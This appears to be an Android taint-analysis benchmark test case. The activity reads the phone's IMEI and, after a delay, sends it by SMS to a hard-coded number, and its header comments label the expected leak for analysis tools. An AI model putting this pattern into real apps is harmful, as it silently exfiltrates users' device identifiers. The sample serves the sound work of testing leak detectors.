// about       Of two tasks that wait the one without the value is taken back.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private final Handler handler = new Handler();
  private String id = "none";

  private final Runnable send = new Runnable() {
    @Override
    public void run() {
      SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
    }
  };

  private final Runnable show = new Runnable() {
    @Override
    public void run() {
      setTitle(id);
    }
  };

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    handler.postDelayed(send, 5000);
    handler.postDelayed(show, 5000);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    id = phone.getDeviceId();
    handler.removeCallbacks(show);
  }
}
